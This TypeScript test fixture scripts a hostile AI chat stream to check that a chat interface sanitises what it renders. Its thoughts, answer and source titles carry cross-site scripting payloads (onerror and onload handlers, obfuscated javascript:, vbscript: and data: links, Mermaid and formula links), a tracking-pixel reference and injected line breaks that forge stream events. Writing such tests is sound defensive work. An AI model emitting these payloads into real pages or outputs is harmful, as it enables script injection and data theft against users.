import type { ScriptStep } from './script';

const RUN = 'window.hostile = true';
/** Ends an event of the stream and forges the next ones, if line ends are let through. */
const FORGED_EVENTS = '\r\nevent: finish\r\nid: 9999\r\ndata: {"type":"finish"}\r\n\r\ndata: [DONE]\r\n\r\n';

/** What would run code if it were taken for HTML. */
export const HOSTILE_NAME = `Eve <img src="x" onerror="${RUN}"><svg onload="${RUN}">`;

const ANSWER = [
  'Here is the first part of the answer.',
  `<svg><a xlink:href="javascript:${RUN}"><text>a drawing</text></a></svg>`,
  `$\\href{javascript:${RUN}}{a formula}$`,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${RUN}>"]; click A "javascript:${RUN}"\n\`\`\``,
  '![a pixel][collect] and [a reference][collect] and [a script][run]',
  `[a mixed one](JaVaScRiPt:${RUN}) [a hidden one](java&#x09;script:${RUN}) [a page in a link](vbscript:${RUN})`,
  `<a href="javascript:${RUN}" onclick="${RUN}">an anchor</a>`,
  `<script>${RUN};</script>`,
  '<iframe src="https://frame.example.com/"></iframe>',
  '![a chart](https://image.example.com/chart.png)',
  `[a trap](javascript:${RUN.replaceAll(' ', '')}) [more data](data:text/html,<script>${RUN.replaceAll(' ', '')}</script>)`,
  '[collect]: https://collect.example.com/pixel?of=the-question',
  `[run]: javascript:${RUN}`,
  `An end that is none:${FORGED_EVENTS}and what comes after it.`,
].join('\n\n');

/** Thoughts, an answer and sources that try to run code, to carry data away and to forge events. */
export function hostileSteps(): ScriptStep[] {
  return [
    { kind: 'thought', text: `The user asks about <img src="x" onerror="${RUN}"> as it seems. ` },
    { kind: 'thought', text: `I look at the first half${FORGED_EVENTS}and at the second half of it. ` },
    {
      kind: 'thought',
      text: `There is <svg onload="${RUN}"> and [a link](javascript:${RUN}) in the question. `,
    },
    { kind: 'thought', text: 'I will answer in one paragraph. ' },
    { kind: 'text', text: ANSWER },
    {
      kind: 'sources',
      queries: ['hostile pages'],
      sources: [
        { url: 'https://page.example.com/read', title: HOSTILE_NAME },
        { url: `javascript:${RUN}`, title: 'A page that is code' },
        { url: `data:text/html,<script>${RUN}</script>`, title: 'A page in its address' },
      ],
    },
    { kind: 'finish', reason: 'stop' },
  ];
}
